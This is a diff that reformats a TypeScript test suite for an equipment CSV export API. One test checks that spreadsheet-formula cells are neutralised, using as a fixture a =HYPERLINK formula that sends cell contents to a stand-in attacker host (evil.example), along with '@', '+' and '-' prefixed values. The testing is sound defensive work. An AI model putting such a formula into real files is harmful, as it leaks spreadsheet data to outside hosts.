@@ -28,10 +28,18 @@ describe('GET /api/equipment/export.csv', () => {
       const res = await client.get<string>(EXPORT);
       expect(res.status).toBe(200);
       expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="equipment-\d{4}-\d{2}-\d{2}\.csv"$/);
+      expect(res.headers.get('content-disposition')).toMatch(
+        /^attachment; filename="equipment-\d{4}-\d{2}-\d{2}\.csv"$/,
+      );
       const rows = rowsOf(res.body);
       expect(rows.map((r) => r.code)).toEqual(['CAM-OWN']);
-      expect(rows[0]).toMatchObject({ name: 'Sony FX6', id: String(mine.id), quantity: '1', currentStock: '1', status: 'available' });
+      expect(rows[0]).toMatchObject({
+        name: 'Sony FX6',
+        id: String(mine.id),
+        quantity: '1',
+        currentStock: '1',
+        status: 'available',
+      });
     }
     for (const client of [s.editor, s.cameraman]) {
       const res = await client.get<{ message: string }>(EXPORT);
@@ -46,7 +54,13 @@ describe('GET /api/equipment/export.csv', () => {
 
   it('neutralises cells a spreadsheet would run (=HYPERLINK, +, -, @) and keeps Thaana text', async () => {
     const s = await equipmentStation(server);
-    await createEquipment(s.owner, { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', code: '@CAM', location: '+Store', description: '-1+2', category: 'ކެމެރާ' });
+    await createEquipment(s.owner, {
+      name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      code: '@CAM',
+      location: '+Store',
+      description: '-1+2',
+      category: 'ކެމެރާ',
+    });
     const res = await s.owner.get<string>(EXPORT);
     const [row] = rowsOf(res.body);
     expect(row).toMatchObject({
@@ -60,7 +74,11 @@ describe('GET /api/equipment/export.csv', () => {
 
   it('streams a catalogue larger than one page, every item once, in id order, with the header once', async () => {
     const s = await equipmentStation(server);
-    const csvData = Array.from({ length: 1203 }, (_, i) => ({ name: `Item ${i}`, code: `BIG-${String(i).padStart(5, '0')}`, location: 'Store' }));
+    const csvData = Array.from({ length: 1203 }, (_, i) => ({
+      name: `Item ${i}`,
+      code: `BIG-${String(i).padStart(5, '0')}`,
+      location: 'Store',
+    }));
     const bulk = await s.owner.post<{ results: { success: number } }>('/api/equipment/bulk', { csvData });
     expect(bulk.body.results.success).toBe(1203);
     const res = await s.technical.get<string>(EXPORT);
